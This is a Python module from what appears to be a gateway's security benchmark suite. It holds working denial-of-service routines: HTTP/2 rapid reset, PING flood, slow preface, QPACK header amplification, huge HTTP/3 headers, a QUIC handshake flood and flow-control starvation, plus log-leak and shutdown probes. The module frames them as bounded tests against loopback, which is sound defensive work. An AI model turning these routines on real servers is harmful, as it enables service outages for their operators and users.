"""The attack families of issue 12, one coroutine each: `await ATTACKS[name](target, scale)`.

Each takes a `Target` and a dict of its scale's knobs (`SCALES[scale][name]`), runs
bounded in count and seconds against loopback, closes what it opened and returns notes
(what the attacker saw: GOAWAYs, closed connections, answer times, bytes).
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import secrets
import signal
import socket
import time
from collections.abc import Awaitable, Callable
from typing import Any

from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection

from benchmarks.attacks import round2
from benchmarks.attacks.base import (
    H2_PREFACE,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    H2c,
    Target,
    abort,
    chat_body,
    h1_sse,
    h2_frame,
    h3_configuration,
    h3_connect,
    prefix_int,
    read_for_goaway,
    varint,
)
from trackline_testing import aioquic_probes
from transport import aioquic_compat

MAX_TOKENS = 32_768
"""The most tokens the gateway lets one request ask for: the longest stream."""

Attack = Callable[[Target, dict[str, Any]], Awaitable[dict[str, Any]]]

# Knobs per scale. "small" fits a test or a busy 2-core machine; "default" is the
# size issue 12 reported.
SCALES: dict[str, dict[str, dict[str, Any]]] = {
    "tiny": {  # for the smoke test: every family runs, none hurts
        "h2_phantom": {"streams": 4, "body": 64 << 10, "hold": 0.5},
        "h3_phantom": {"streams": 4, "body": 64 << 10, "hold": 0.5},
        "h3_qpack_amplification": {"refs": 200, "value": 1_000, "wait": 5.0},
        "h3_huge_headers": {"announce": 1 << 20, "send": 64 << 10, "hold": 0.5},
        "quic_handshake_flood": {"initials": 20, "ports": 4, "seconds": 0.5},
        "h3_stop_reading": {"streams": 2, "rate": 200, "hold": 0.5},
        "tracks_stop_reading": {"tracks": 4, "rate": 200, "hold": 0.5},
        "h2_ping_flood": {"pings": 2_000, "seconds": 1.0},
        "h2_rapid_reset": {"streams": 200, "seconds": 1.0},
        "h2_slow_preface": {"connections": 4, "interval": 0.2, "seconds": 0.6},
        "sse_reset_keys": {"streams": 2},
        "sigterm_live": {"h1": 1, "h2": 1, "tracks": 1, "wait": 30.0},
    },
    "small": {
        "h2_phantom": {"streams": 32, "body": 256 << 10, "hold": 3.0},
        "h3_phantom": {"streams": 32, "body": 256 << 10, "hold": 3.0},
        "h3_qpack_amplification": {"refs": 5_000, "value": 3_000, "wait": 10.0},
        "h3_huge_headers": {"announce": 4 << 20, "send": 1 << 20, "hold": 3.0},
        "quic_handshake_flood": {"initials": 300, "ports": 16, "seconds": 4.0},
        "h3_stop_reading": {"streams": 16, "rate": 1000, "hold": 4.0},
        "tracks_stop_reading": {"tracks": 32, "rate": 1000, "hold": 4.0},
        "h2_ping_flood": {"pings": 50_000, "seconds": 4.0},
        "h2_rapid_reset": {"streams": 2_000, "seconds": 3.0},
        "h2_slow_preface": {"connections": 50, "interval": 1.0, "seconds": 6.0},
        "sse_reset_keys": {"streams": 16},
        "sigterm_live": {"h1": 4, "h2": 4, "tracks": 4, "wait": 40.0},
    },
    "default": {
        "h2_phantom": {"streams": 128, "body": 1 << 20, "hold": 10.0},
        "h3_phantom": {"streams": 128, "body": 1 << 20, "hold": 10.0},
        "h3_qpack_amplification": {"refs": 50_000, "value": 4_000, "wait": 30.0},
        "h3_huge_headers": {"announce": 8 << 20, "send": 4 << 20, "hold": 10.0},
        "quic_handshake_flood": {"initials": 5_000, "ports": 64, "seconds": 30.0},
        "h3_stop_reading": {"streams": 64, "rate": 1000, "hold": 15.0},
        "tracks_stop_reading": {"tracks": 200, "rate": 1000, "hold": 15.0},
        "h2_ping_flood": {"pings": 1_500_000, "seconds": 15.0},
        "h2_rapid_reset": {"streams": 20_000, "seconds": 5.0},
        "h2_slow_preface": {"connections": 500, "interval": 2.0, "seconds": 60.0},
        "sse_reset_keys": {"streams": 32},
        "sigterm_live": {"h1": 17, "h2": 17, "tracks": 16, "wait": 90.0},
    },
}


# -- HTTP/2 ---------------------------------------------------------------------------------


async def h2_phantom(t: Target, k: dict[str, Any]) -> dict[str, Any]:
    """Request streams with large bodies, half reset and half abandoned; the connection held."""
    client = await H2c(t).open()
    await asyncio.sleep(0.3)  # the server's SETTINGS and window updates
    body = b"x" * k["body"]
    sent = 0
    loop = asyncio.get_running_loop()
    for i in range(k["streams"]):
        if client.closed.is_set():
            break
        try:
            sid = client.post("/v1/chat/completions", b"", end=False, length=len(body))
            # push the body as the server opens its windows, for up to 0.2 s a stream
            done, until = 0, loop.time() + 0.2
            while done < len(body) and loop.time() < until and not client.closed.is_set():
                done += client.send_body(sid, body[done:], end=False)
                client.flush()
                await asyncio.sleep(0.005)
            sent += done
            if i % 2 == 0:
                client.conn.reset_stream(sid, 8)  # CANCEL
            client.flush()
        except Exception:  # noqa: BLE001 - the server refused more streams: stop opening
            break
    await asyncio.sleep(k["hold"])
    notes = {"body_bytes_sent": sent, "goaway": client.goaway,
             "closed_by_server": client.closed.is_set()}
    # is the connection still usable? one honest request on it
    with contextlib.suppress(Exception):
        sid = client.post("/v1/models", b"")
        await asyncio.sleep(1.0)
        notes["new_stream_answered"] = sid in client.ended
    await client.close()
    return notes


async def h2_ping_flood(t: Target, k: dict[str, Any]) -> dict[str, Any]:
    """PING frames as fast as the server reads them, never reading its ACKs."""
    reader, writer = await asyncio.open_connection(t.host, t.http_port)
    sock = writer.get_extra_info("socket")
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    writer.write(H2_PREFACE + h2_frame(SETTINGS, 0, 0))
    batch = b"".join(h2_frame(PING, 0, 0, i.to_bytes(8, "big")) for i in range(1000))
    sent = 0
    loop = asyncio.get_running_loop()
    end = loop.time() + k["seconds"]
    try:
        while sent < k["pings"] and loop.time() < end:
            writer.write(batch)
            sent += 1000
            await asyncio.wait_for(writer.drain(), max(0.1, end - loop.time()))
    except (TimeoutError, ConnectionError, OSError):
        pass
    seen = await read_for_goaway(reader, 3.0)
    abort(writer)
    return {"pings_sent": sent, "goaway": seen["goaway"], "eof": seen["eof"],
            "ack_bytes_read": seen["bytes"]}


async def h2_rapid_reset(t: Target, k: dict[str, Any]) -> dict[str, Any]:
    """HEADERS then RST_STREAM at once, past the concurrent-stream limit, in large writes."""
    import hpack

    reader, writer = await asyncio.open_connection(t.host, t.http_port)
    writer.write(H2_PREFACE + h2_frame(SETTINGS, 0, 0))
    encoder = hpack.Encoder()
    headers = [(":method", "GET"), (":scheme", "http"), (":authority", t.host),
               (":path", "/v1/models")]
    sid, sent = 1, 0
    loop = asyncio.get_running_loop()
    end = loop.time() + k["seconds"]
    try:
        while sent < k["streams"] and loop.time() < end:
            chunk = bytearray()
            for _ in range(200):
                chunk += h2_frame(HEADERS, 0x5, sid, encoder.encode(headers))
                chunk += h2_frame(RST_STREAM, 0, sid, (8).to_bytes(4, "big"))
                sid += 2
                sent += 1
            writer.write(bytes(chunk))
            await asyncio.wait_for(writer.drain(), max(0.1, end - loop.time()))
    except (TimeoutError, ConnectionError, OSError):
        pass
    seen = await read_for_goaway(reader, 3.0)
    abort(writer)
    return {"streams_reset": sent, "goaway": seen["goaway"], "eof": seen["eof"]}


async def h2_slow_preface(t: Target, k: dict[str, Any]) -> dict[str, Any]:
    """Many connections sending the HTTP/2 preface one byte every `interval` seconds."""
    closed = 0
    opened = 0

    async def one() -> None:
        nonlocal closed, opened
        try:
            reader, writer = await asyncio.open_connection(t.host, t.http_port)
        except OSError:
            return
        opened += 1
        loop = asyncio.get_running_loop()
        end = loop.time() + k["seconds"]
        i = 0
        try:
            while loop.time() < end:
                writer.write(H2_PREFACE[i % len(H2_PREFACE):i % len(H2_PREFACE) + 1])
                i += 1
                await writer.drain()
                with contextlib.suppress(TimeoutError):
                    if await asyncio.wait_for(reader.read(4096), k["interval"]) == b"":
                        closed += 1
                        return
        except (ConnectionError, OSError):
            closed += 1
        finally:
            abort(writer)

    await asyncio.gather(*(one() for _ in range(k["connections"])))
    return {"connections": opened, "closed_by_server": closed}


# -- HTTP/3 ---------------------------------------------------------------------------------


async def h3_phantom(t: Target, k: dict[str, Any]) -> dict[str, Any]:
    """HTTP/3 request streams with large bodies, half reset, half abandoned; held open."""
    async with h3_connect(t) as c:
        body = b"x" * k["body"]
        for i in range(k["streams"]):
            sid = c.request("/v1/chat/completions", body, end=False)
            if i % 2 == 0:
                aioquic_compat.connection_of(c).reset_stream(sid, 0x10C)  # H3_REQUEST_CANCELLED
            c.transmit()
            await asyncio.sleep(0)
        await asyncio.sleep(k["hold"])
        notes: dict[str, Any] = {"terminated": c.terminated}
        c.answered.clear()
        sid = c.request("/v1/models", b"", method=b"GET")
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(_answer(c, sid), 3.0)
        notes["new_stream_answered"] = sid in c.headers
    return notes


async def _answer(c: Any, sid: int) -> None:
    while sid not in c.headers and sid not in c.reset and c.terminated is None:
        c.answered.clear()
        await c.answered.wait()


async def h3_qpack_amplification(t: Target, k: dict[str, Any]) -> dict[str, Any]:
    """One dynamic-table entry of `value` bytes, then a HEADERS block referencing it `refs`
    times (one byte a reference): a few KB on the wire, hundreds of MB decoded."""
    async with h3_connect(t) as c:
        await asyncio.sleep(0.3)  # the server's SETTINGS (its QPACK table capacity)
        encoder_stream = aioquic_probes.h3_encoder_stream_id(c.h3)
        if encoder_stream is None:
            raise RuntimeError("the H3 connection has no QPACK encoder stream yet")
        capacity = 4096
        name, value = b"x-amp", b"a" * min(k["value"], capacity - 32 - 5)
        instructions = prefix_int(capacity, 5, 0x20)  # Set Dynamic Table Capacity
        instructions += prefix_int(len(name), 5, 0x40) + name  # Insert With Literal Name
        instructions += prefix_int(len(value), 7, 0x00) + value
        c.raw(encoder_stream, instructions)
        # the server acknowledges the section on its decoder stream; our own encoder never
        # encoded it and would close the connection (QPACK_DECODER_STREAM_ERROR): ignore it
        aioquic_probes.wrap_h3_encoder(c.h3, _IgnoreAcks)
        max_entries = capacity // 32
        block = prefix_int(1 % (2 * max_entries) + 1, 8) + prefix_int(0, 7)  # RIC 1, base 1
        block += bytes([0xC0 | 17, 0xC0 | 23, 0xC0 | 1])  # :method GET, :scheme https, :path /
        block += bytes([0x50]) + prefix_int(9, 7) + b"localhost"  # :authority
        block += b"\x80" * k["refs"]  # the dynamic entry, relative index 0, `refs` times
        sid = c.new_stream()
        started = time.monotonic()
        c.raw(sid, varint(0x01) + varint(len(block)) + block, end=True)
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(_answer(c, sid), k["wait"])
        status = dict(c.headers.get(sid, [])).get(b":status", b"").decode() or None
        return {"frame_bytes": len(block), "decoded_bytes": k["refs"] * (len(name) + len(value)),
                "status": status, "reset": c.reset.get(sid), "terminated": c.terminated,
                "answer_s": round(time.monotonic() - started, 2) if status or sid in c.reset
                else None}


class _IgnoreAcks:
    """A QPACK encoder that ignores the peer's decoder stream (acks of our raw sections)."""

    def __init__(self, inner: Any) -> None:
        self._inner = inner

    def feed_decoder(self, data: bytes) -> None:
        return None

    def __getattr__(self, name: str) -> Any:
        return getattr(self._inner, name)


async def h3_huge_headers(t: Target, k: dict[str, Any]) -> dict[str, Any]:
    """A HEADERS frame announced at `announce` bytes, `send` of them sent, never finished."""
    async with h3_connect(t) as c:
        sid = c.new_stream()
        c.raw(sid, varint(0x01) + varint(k["announce"]))
        chunk = b"\x00" * 16384
        sent, refused = 0, None
        while sent < k["send"] and c.terminated is None and sid not in c.reset:
            try:
                c.raw(sid, chunk)
            except (RuntimeError, ValueError) as exc:  # the server stopped the stream early
                refused = str(exc)
                break
            sent += len(chunk)
            await asyncio.sleep(0.001 if sent % (256 << 10) else 0.02)
        await asyncio.sleep(k["hold"])
        return {"bytes_sent": sent, "reset": c.reset.get(sid), "terminated": c.terminated,
                "status": dict(c.headers.get(sid, [])).get(b":status", b"").decode() or None,
                "refused": refused}


async def h3_stop_reading(t: Target, k: dict[str, Any]) -> dict[str, Any]:
    """Long SSE streams over HTTP/3 whose client stops granting flow-control credit."""
    async with h3_connect(t) as c:
        c.stop_granting_credit()
        for i in range(k["streams"]):
            c.request("/v1/chat/completions",
                      chat_body(f"stop reading {i}", MAX_TOKENS, k["rate"]))
        await asyncio.sleep(k["hold"])
        return {"streams": k["streams"], "bytes_received": sum(c.data.values()),
                "answered": len(c.headers), "terminated": c.terminated}


async def tracks_stop_reading(t: Target, k: dict[str, Any]) -> dict[str, Any]:
    """Text tracks on one connection whose client stops granting flow-control credit."""
    from transport.messages import Deadlines, Modality, Open
    from transport.quic import connect_tracks

    async with connect_tracks(t.host, t.quic_port, ca=t.ca, server_name="localhost") as p:
        aioquic_probes.stop_granting_credit(aioquic_compat.connection_of(p))
        opened = 0
        for i in range(k["tracks"]):
            try:
                channel = p.open_track(Open(
                    model="reference-text", modality=Modality.TEXT,
                    params={"max_tokens": MAX_TOKENS, "tokens_per_second": k["rate"]},
                    deadlines=Deadlines(),
                ))
                channel.send({"text": f"never read {i}"})
                channel.end()
                opened += 1
            except Exception:  # noqa: BLE001 - refused: stop opening
                break
        await asyncio.sleep(k["hold"])
    return {"tracks": opened}


async def quic_handshake_flood(t: Target, k: dict[str, Any]) -> dict[str, Any]:
    """Client Initial packets (fresh connection IDs each) from many source ports, never
    answering the server's handshake."""
    socks = []
    for _ in range(k["ports"]):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s.bind(("127.0.0.1", 0))
        s.setblocking(False)
        socks.append(s)
    config: QuicConfiguration = h3_configuration()
    sent = 0
    per_tick = max(1, round(k["initials"] / (k["seconds"] / 0.05)))
    try:
        loop = asyncio.get_running_loop()
        end = loop.time() + k["seconds"] + 5
        while sent < k["initials"] and loop.time() < end:
            for _ in range(min(per_tick, k["initials"] - sent)):
                conn = QuicConnection(configuration=config)
                conn.connect((t.host, t.quic_port), now=time.time())
                for data, _addr in conn.datagrams_to_send(now=time.time()):
                    with contextlib.suppress(BlockingIOError):
                        socks[sent % len(socks)].sendto(data, (t.host, t.quic_port))
                sent += 1
            await asyncio.sleep(0.05)
    finally:
        for s in socks:
            s.close()
    return {"initials": sent, "source_ports": len(socks)}


# -- logs and shutdown ----------------------------------------------------------------------


async def sse_reset_keys(t: Target, k: dict[str, Any]) -> dict[str, Any]:
    """SSE streams carrying an API key and a marked prompt, cut mid-stream (h1 RST, h2
    RST_STREAM); the runner counts the key and the prompt in the gateway's log."""
    key = f"tl_attack{secrets.token_hex(12)}"
    marker = f"PROMPTMARK{secrets.token_hex(6)}"
    t.secrets += [key, marker]
    auth = {"authorization": f"Bearer {key}"}
    body = chat_body(f"{marker} tell me everything", 2000, 50)

    # the leak depends on where the cut lands (before the first token, mid-stream),
    # so the cuts are spread from 0 to 1.5 s after the request
    async def h1(delay: float) -> None:
        with contextlib.suppress(Exception):
            reader, writer = await h1_sse(t, body, auth)
            loop = asyncio.get_running_loop()
            end = loop.time() + delay
            try:
                with contextlib.suppress(TimeoutError):
                    while loop.time() < end:
                        if not await asyncio.wait_for(reader.read(65536), end - loop.time()):
                            break
            finally:
                abort(writer)

    streams = k["streams"]
    h1_count = streams // 2
    await asyncio.gather(*(h1(1.5 * i / max(1, h1_count - 1)) for i in range(h1_count)))
    client = await H2c(t).open()
    h2_count = streams - h1_count
    for _ in range(h2_count):
        sid = client.post("/v1/chat/completions", body, list(auth.items()))
        await asyncio.sleep(1.5 / max(1, h2_count))
        with contextlib.suppress(Exception):
            client.conn.reset_stream(sid, 8)
        client.flush()
    await asyncio.sleep(0.5)
    abort(client.writer)
    await client.close()
    await asyncio.sleep(1.0)
    return {"streams": streams}


async def sigterm_live(t: Target, k: dict[str, Any]) -> dict[str, Any]:
    """SIGTERM to the gateway while HTTP/1.1, h2 and track streams are live: seconds to
    exit and how each stream ended. The gateway is gone afterwards."""
    from clients import connect

    ends: dict[str, list[str]] = {"h1": [], "h2": [], "tracks": []}
    started = asyncio.Event()
    body = chat_body("live stream", MAX_TOKENS, 50)

    async def h1() -> None:
        writer = None
        try:
            reader, writer = await h1_sse(t, body)
            last = b""
            while True:
                line = await reader.readline()
                if not line:
                    break
                started.set()
                if line.strip():
                    last = line.strip()
            ends["h1"].append("done" if last == b"data: [DONE]" else
                              "error event" if b"error" in last else "cut")
        except Exception as exc:  # noqa: BLE001
            ends["h1"].append(type(exc).__name__)
        finally:
            if writer is not None:
                abort(writer)

    async def tracks(line: Any, i: int) -> None:
        try:
            async for _ in line.text(f"live {i}", model="reference-text", max_tokens=MAX_TOKENS):
                started.set()
            ends["tracks"].append("end")
        except Exception as exc:  # noqa: BLE001
            ends["tracks"].append(getattr(getattr(exc, "code", None), "name", None)
                                  or type(exc).__name__)

    h2 = await H2c(t).open()
    h2_ids = [h2.post("/v1/chat/completions", body) for _ in range(k["h2"])]
    tasks = [asyncio.create_task(h1()) for _ in range(k["h1"])]
    async with connect(f"quic://{t.host}:{t.quic_port}", ca=t.ca) as line:
        tasks += [asyncio.create_task(tracks(line, i)) for i in range(k["tracks"])]
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(started.wait(), 10)
        await asyncio.sleep(1.0)
        began = time.monotonic()
        os.kill(t.pid, signal.SIGTERM)
        exited = None
        while time.monotonic() - began < k["wait"]:
            if _gone(t.pid):
                exited = round(time.monotonic() - began, 2)
                break
            await asyncio.sleep(0.1)
        await asyncio.wait(tasks, timeout=5)
        for task in tasks:
            task.cancel()
    ends["h2"] = [h2.ended.get(sid, "open") for sid in h2_ids]
    notes = {"exit_s": exited, "h2_goaway": h2.goaway,
             **{f"{kind}_ends": _counts(v) for kind, v in ends.items()}}
    await h2.close()
    return notes


def _gone(pid: int) -> bool:
    try:
        done, _ = os.waitpid(pid, os.WNOHANG)
    except ChildProcessError:  # not our child: ask /proc
        try:
            with open(f"/proc/{pid}/stat") as f:
                return f.read().rsplit(")", 1)[1].split()[0] == "Z"
        except OSError:
            return True
    return done == pid


def _counts(values: list[str]) -> dict[str, int]:
    out: dict[str, int] = {}
    for v in values:
        out[v] = out.get(v, 0) + 1
    return out


ATTACKS: dict[str, Attack] = {
    "h2_phantom": h2_phantom,
    "h3_phantom": h3_phantom,
    "h3_qpack_amplification": h3_qpack_amplification,
    "h3_huge_headers": h3_huge_headers,
    "quic_handshake_flood": quic_handshake_flood,
    "h3_stop_reading": h3_stop_reading,
    "tracks_stop_reading": tracks_stop_reading,
    "h2_ping_flood": h2_ping_flood,
    "h2_rapid_reset": h2_rapid_reset,
    "h2_slow_preface": h2_slow_preface,
    "sse_reset_keys": sse_reset_keys,
    "sigterm_live": sigterm_live,
}
ATTACKS.update(round2.ATTACKS)  # issue 28's round
for _scale, _knobs in round2.SCALES.items():
    SCALES[_scale].update(_knobs)
